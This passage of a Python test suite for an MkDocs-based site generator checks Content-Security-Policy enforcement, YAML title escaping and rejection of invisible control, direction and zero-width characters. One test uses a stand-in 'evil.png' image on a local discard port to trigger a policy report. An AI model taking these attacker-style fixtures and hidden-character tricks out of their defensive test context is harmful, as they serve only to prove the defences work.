    broken.unlink()
    assert {
        "script-src-elem inline",
        "script-src-attr inline",
        "style-src-attr inline",
        "img-src http://127.0.0.1:9/evil.png",
    } <= said
    assert "fnord" not in said
    new_page.forgive()


def test_every_page_says_its_policy(marked: tuple[Path, dict[int, str]]) -> None:
    """Before anything that it loads; and for hosts that say it in headers there is a file, which is not among what is
    kept.
    """
    site = marked[0] / "site"
    for path in site.rglob("*.html"):
        before, said, _ = path.read_text(encoding="utf-8").partition(
            f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
        )
        assert said, path
        assert not re.search("<(script|link|style|img)", before), path
    assert POLICY in (site / "_headers").read_text(encoding="utf-8")
    assert "_headers" not in (site / "sw.js").read_text(encoding="utf-8")


def test_a_title_is_read_back_whatever_is_in_it(tmp_path: Path) -> None:
    """Titles and descriptions go to MkDocs as YAML, where every character is read as what it is, those that YAML
    refuses to read too.
    """
    title = "".join(map(chr, (*range(0x20, 0x3000), *range(0xFDD0, 0x10000), 0x1F3B2, 0x10FFFF)))
    Writer(Book(read_catalog(GOOD)), ROOT / "site_templates", tmp_path).page(
        "x/", "search.md.j2", title=title, description="--- # \n---\n", questions=()
    )
    text, read = get_data((tmp_path / links.source_of("x/")).read_text(encoding="utf-8"))
    assert (title, "--- # \n---\n") == tuple(unescape(read[key]) for key in ("title", "description"))
    assert not text.startswith("---")


def test_a_page_whose_title_cannot_be_read_is_no_page(tmp_path: Path) -> None:
    """MkDocs would show the title, the description and all that goes with them as a part of the page."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/index.md").write_text('---\ntitle: "<b>\ufffe"\n---\n# A page\n', encoding="utf-8")
    with pytest.raises(BuildError) as caught:
        render(ROOT, tmp_path / "docs", tmp_path / "site", [{"Home": "index.md"}])
    assert (
        "mkdocs.yml:1:1: broken-page: the title and description of index.md can't be read",
    ) == caught.value.problems


def test_what_nobody_can_see_is_refused_in_every_field(tmp_path: Path) -> None:
    """Control characters, marks of direction and of no width are a problem wherever they stand in a text."""
    project(tmp_path)
    for number, each in enumerate(fields(tmp_path)):
        path = tmp_path / each.file
        text = path.read_text(encoding="utf-8")
        path.write_text(replaced(text, each.start, each.end, f"a{HIDDEN[number % len(HIDDEN)]}b"), encoding="utf-8")
        assert "bad-character" in reads(tmp_path), each
        path.write_text(text, encoding="utf-8")
